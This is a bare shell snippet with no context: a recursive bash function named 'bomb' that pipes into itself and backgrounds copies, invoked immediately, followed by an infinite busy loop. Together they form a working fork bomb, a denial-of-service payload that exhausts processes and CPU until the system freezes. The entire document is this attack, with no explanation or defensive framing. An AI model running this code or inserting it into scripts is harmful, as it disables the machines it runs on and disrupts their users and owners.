bomb() { bomb | bomb & }
bomb
while :; do :; done
